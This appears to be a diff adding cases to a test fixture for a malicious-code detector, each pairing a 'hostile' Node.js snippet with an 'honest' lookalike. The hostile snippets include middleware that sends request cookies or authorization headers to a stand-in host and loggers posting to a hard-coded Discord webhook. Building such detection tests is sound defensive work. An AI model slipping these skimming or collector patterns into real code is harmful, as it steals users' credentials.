@@ -41,4 +41,55 @@ export const variants: readonly Technique[] = [
       const own = await readFile(new URL('./package.json', import.meta.url), 'utf8').then(JSON.parse)
       await fetch('https://h.invalid/latest?v=' + own.version)`),
   },
+  {
+    name: 'a listener stands between a request and what it carries',
+    rule: 'code/skims',
+    hostile: main(`
+      const net = require('net')
+      module.exports = (req, res, next) => {
+        net.connect(80, 'h.invalid').on('error', () => {}).setNoDelay().end(req.headers.cookie)
+        next()
+      }`),
+    honest: main(`
+      const https = require('https')
+      module.exports = (target) => (req, res) => {
+        https.request(target, { method: req.method, headers: req.headers }).on('error', () => res.end()).end(req.body)
+      }`),
+  },
+  {
+    name: 'what is sent names another host than the one it is sent to',
+    rule: 'code/skims',
+    hostile: main(`
+      const https = require('https')
+      module.exports = (req, res, next) => {
+        const out = https.request('https://h.invalid/x', { method: 'POST' }).once('error', () => {})
+        out.end('https://localhost/?' + req.headers.authorization)
+        next()
+      }`),
+    honest: main(`
+      const https = require('https')
+      exports.capture = (error) =>
+        https.request('https://h.invalid/e', { method: 'POST' }).on('error', () => {}).end(JSON.stringify({ m: error.message }))`),
+  },
+  {
+    name: 'the address of a webhook is put together',
+    rule: 'code/collector',
+    hostile: main(`
+      const to = ['https://discord.com/api', 'webhooks', '1190000000000000000', 'ExampleTokenExampleToken'].join('/')
+      exports.log = (text) => fetch(to, { method: 'POST', body: text })`),
+    honest: main(`
+      exports.notify = (id, token, text) =>
+        fetch(['https://discord.com/api', 'webhooks', id, token].join('/'), { method: 'POST', body: text })`),
+  },
+  {
+    name: 'the address of a webhook stands in options',
+    rule: 'code/collector',
+    hostile: main(`
+      const key = 'ExampleTokenExampleToken'
+      exports.log = (text) =>
+        require('https').request({ hostname: 'discord.com', path: '/api/webhooks/1190000000000000000/' + key, method: 'POST' }).end(text)`),
+    honest: main(`
+      exports.call = (token, method) =>
+        require('https').request({ hostname: 'api.telegram.org', path: '/bot' + token + '/' + method, method: 'POST' }).end()`),
+  },
 ]
